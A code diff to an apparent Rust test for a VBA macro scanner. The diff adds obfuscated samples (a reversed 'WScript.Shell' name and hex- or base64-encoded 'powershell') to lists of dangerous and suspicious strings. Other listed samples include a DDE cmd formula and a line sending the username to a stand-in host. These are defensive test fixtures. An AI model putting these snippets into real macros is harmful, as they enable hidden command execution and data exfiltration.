@@ -91,6 +91,7 @@ fn harm_in_many_dresses_is_never_called_harmless() {
         "Range(\"A1\").Formula = \"=cmd|'/c calc'!A1\"",
         "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://a.example\", False\nx.Send Environ(\"USERNAME\")",
         "Set s = CreateObject(\"ADODB.Stream\")\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\ns.SaveToFile p, 2",
+        "CreateObject(turn(\"llehS.tpircSW\")).Run decode(\"706f7765727368656c6c\")",
         "a = \"W\"\na = a & \"Script\"\na = a & \".Shell\"\nCreateObject(a).Run x",
     ];
     for body in dangerous {
@@ -112,6 +113,8 @@ fn harm_in_many_dresses_is_never_called_harmless() {
         "For i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) Xor 9)\nNext",
         "x = \"power\" & \"shell\"",
         "CallByName o, n, VbMethod",
+        "x = decode(\"cG93ZXJzaGVsbA==\")",
+        "x = turn(\"llehS.tpircSW\")",
         "Set q = GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_BIOS\")",
     ];
     for body in suspicious {
